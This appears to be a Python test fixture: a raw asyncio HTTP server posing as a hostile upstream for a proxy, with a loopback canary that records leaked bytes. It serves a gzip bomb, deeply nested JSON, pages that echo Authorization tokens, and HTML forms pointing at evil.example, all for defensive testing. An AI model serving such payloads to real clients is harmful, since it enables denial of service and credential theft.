"""A hostile upstream stand-in: a raw HTTP/1.1 server that answers what no well-behaved Loom would.

Written on asyncio streams rather than tornado so that it can send what a framework refuses to:
duplicate Content-Type headers, non-ASCII header bytes, compressed bodies nobody asked for,
redirects on WebSocket upgrades, error pages that echo the request's Authorization header.
Beside it runs a canary: another loopback port that records every byte anyone sends it, so
"nothing was sent elsewhere" is checked by looking, not by trusting the proxy's answer.
"""
from __future__ import annotations

import asyncio
import json
import zlib
from dataclasses import dataclass, field

HEAD_LIMIT = 4 * 1024 * 1024  # the largest request head the stand-in reads
BOMB_DECODED = 600 * 1024 * 1024  # the gzip bomb's size once inflated (about 600 KiB on the wire)


@dataclass
class Request:
    method: str
    target: str
    headers: list[tuple[str, str]]

    def header(self, name: str) -> str:
        return next((v for n, v in self.headers if n.lower() == name), "")


@dataclass
class Hostile:
    url: str = ""
    canary_url: str = ""
    seen: list[Request] = field(default_factory=list)
    canary_connections: int = 0
    canary_bytes: bytearray = field(default_factory=bytearray)
    canned: bytes = b""  # the whole answer of /api/canned (set by a test)
    _servers: list[asyncio.Server] = field(default_factory=list)

    def paths(self) -> list[str]:
        return [r.target for r in self.seen]

    async def stop(self) -> None:
        for server in self._servers:
            server.close()
        for server in self._servers:
            await server.wait_closed()


def _answer(status: str, headers: list[tuple[str, str | bytes]], body: bytes) -> bytes:
    lines = [f"HTTP/1.1 {status}".encode()]
    for name, value in [*headers, ("Content-Length", str(len(body))), ("Connection", "close")]:
        lines.append(name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def _json(status: str, body: object, *extra: tuple[str, str | bytes]) -> bytes:
    return _answer(status, [("Content-Type", "application/json"), *extra], json.dumps(body).encode())


_BOMB: bytes | None = None


def gzip_bomb() -> bytes:
    """BOMB_DECODED zero bytes, gzip-compressed in 1 MiB steps (never held whole in memory)."""
    global _BOMB
    if _BOMB is None:
        z = zlib.compressobj(9, zlib.DEFLATED, 31)
        zeros = bytes(1 << 20)
        parts = [z.compress(zeros) for _ in range(BOMB_DECODED >> 20)]
        _BOMB = b"".join(parts) + z.flush()
    return _BOMB


class _Routes:
    """What the hostile upstream answers, by the last path segment(s) of the request."""

    def __init__(self, hostile: Hostile) -> None:
        self.h = hostile

    def answer(self, req: Request) -> bytes | list[bytes]:
        path = req.target.split("?")[0]
        auth = req.header("authorization")
        if path.endswith(("/ws/sessions/redirect", "/weaver/redirect/attach")):
            where = self.h.canary_url + path
            return _answer("302 Found", [("Location", where)], b"")
        if path.endswith("/weaver/refuse-status/attach"):
            return _json("403 Forbidden", {"error": "forbidden", "message": "no",
                                           "status": 403, "code": 7})
        if path.endswith("/weaver/refuse-echo/attach"):
            return _answer("401 Unauthorized", [("Content-Type", "text/html")],
                           f"<pre>Authorization: {auth}</pre>".encode())
        if path.endswith("/ws/sessions/refuse-deep"):
            return _answer("400 Bad Request", [("Content-Type", "application/json")],
                           b"[" * 100_000 + b"]" * 100_000)
        route = getattr(self, "_" + path.rsplit("/", 1)[-1].replace("-", "_"), None)
        return route(req, auth) if route else _json("200 OK", {"ok": True, "target": req.target})

    def _dup_type(self, req: Request, auth: str) -> bytes:
        return _answer("200 OK", [("Content-Type", "application/json; charset=utf-8"),
                                  ("Content-Type", "text/html")],
                       b"<html><form action='https://evil.example/'><input name=pw></form></html>")

    def _dup_type_sse(self, req: Request, auth: str) -> bytes:
        return _answer("200 OK", [("Content-Type", "text/event-stream"),
                                  ("Content-Type", "text/html")],
                       b"<html><a href='https://evil.example/'>click</a></html>")

    def _echo_page(self, req: Request, auth: str) -> bytes:
        return _answer("500 Internal Server Error", [("Content-Type", "text/html")],
                       f"<h1>Oops</h1><pre>Authorization: {auth}</pre>".encode())

    def _echo_json(self, req: Request, auth: str) -> bytes:
        return _json("200 OK", {"you_sent": auth, "pad": "x" * 100})

    def _echo_header(self, req: Request, auth: str) -> bytes:
        return _json("200 OK", {}, ("X-Request-Id", auth), ("ETag", f'"{auth}"'))

    def _echo_sse(self, req: Request, auth: str) -> list[bytes]:
        # The key split across writes: no single chunk holds it whole.
        key = auth.removeprefix("Bearer ")
        head = (b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n")
        return [head, b"data: before\n\n", f"data: {key[:10]}".encode(),
                f"{key[10:]} after\n\n".encode(), b"data: end\n\n"]

    def _etag(self, req: Request, auth: str) -> bytes:
        return _json("200 OK", {"ok": True}, ("ETag", '"caf\u00e9-\u2603"'.encode()))

    def _gzip_bomb(self, req: Request, auth: str) -> bytes:
        return _answer("200 OK", [("Content-Type", "application/json"),
                                  ("Content-Encoding", "gzip")], gzip_bomb())

    def _gzip_small(self, req: Request, auth: str) -> bytes:
        body = zlib.compress(json.dumps({"small": True, "key": auth}).encode())
        return _answer("200 OK", [("Content-Type", "application/json"),
                                  ("Content-Encoding", "deflate")], body)

    def _brotli(self, req: Request, auth: str) -> bytes:
        return _answer("200 OK", [("Content-Type", "application/json"),
                                  ("Content-Encoding", "br")], b"\x8b\x02\x80{}\x03")

    def _canned(self, req: Request, auth: str) -> bytes:
        return self.h.canned


async def _read_request(reader: asyncio.StreamReader) -> tuple[Request, bytes]:
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    method, target, _ = lines[0].split(" ", 2)
    headers = [tuple(x.strip() for x in line.split(":", 1)) for line in lines[1:] if ":" in line]
    req = Request(method, target, headers)  # type: ignore[arg-type]
    length = req.header("content-length")
    body = await reader.readexactly(int(length)) if length.isdigit() else b""
    return req, body


async def start_hostile() -> Hostile:
    hostile = Hostile()
    routes = _Routes(hostile)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            req, _ = await asyncio.wait_for(_read_request(reader), 60)
            hostile.seen.append(req)
            answer = routes.answer(req)
            for part in answer if isinstance(answer, list) else [answer]:
                writer.write(part)
                await writer.drain()
                await asyncio.sleep(0.01)
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError,
                ConnectionError, ValueError, asyncio.CancelledError):
            pass  # a stand-in stopped mid-answer at teardown is not a server error
        finally:
            writer.close()

    async def canary(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        hostile.canary_connections += 1
        try:
            while data := await asyncio.wait_for(reader.read(65536), 10):
                hostile.canary_bytes.extend(data)
        except (asyncio.TimeoutError, ConnectionError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    for handler in (serve, canary):
        # A request head may be as large as the proxy lets through (generated header values):
        # reading it must not be where the stand-in fails.
        hostile._servers.append(await asyncio.start_server(handler, "127.0.0.1", 0,
                                                           limit=HEAD_LIMIT))
    main_port = hostile._servers[0].sockets[0].getsockname()[1]
    canary_port = hostile._servers[1].sockets[0].getsockname()[1]
    hostile.url = f"http://127.0.0.1:{main_port}"
    hostile.canary_url = f"ws://127.0.0.1:{canary_port}"
    return hostile
